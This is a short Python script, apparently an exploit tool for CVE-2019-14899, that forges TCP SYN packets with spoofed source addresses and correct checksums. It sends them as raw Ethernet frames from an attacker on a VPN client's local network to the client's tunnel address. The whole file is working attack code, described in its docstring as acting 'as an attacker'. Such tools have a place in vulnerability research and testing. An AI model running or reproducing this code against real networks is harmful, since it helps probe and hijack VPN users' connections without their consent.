#!/usr/bin/env python3
"""Forge TCP SYNs as an attacker on the client's LAN would (CVE-2019-14899).

  forgesyn.py IFACE DST_MAC SRC_MAC SRC_IP SPORT DST_IP PORT [PORT...]

One Ethernet frame per port, out of IFACE by AF_PACKET: an IPv4 TCP SYN from
SRC_IP (an internet host's address) and SPORT to DST_IP (the client's tunnel
address) and PORT, checksums right, so that the victim's kernel takes it.
Prints "sent N".
"""
import socket
import struct
import sys


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), seq & 0xFFFF, 0, 64,
                     socket.IPPROTO_TCP, 0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    ifc, dmac, smac, src, sport, dst = sys.argv[1:7]
    ports = [int(p) for p in sys.argv[7:]]
    eth = bytes.fromhex(dmac.replace(":", "")) + bytes.fromhex(smac.replace(":", "")) + b"\x08\x00"
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifc, 0))
    for i, p in enumerate(ports):
        s.send(eth + syn(src, dst, int(sport), p, 0x1000 + i))
    print("sent %d" % len(ports))


if __name__ == "__main__":
    main()
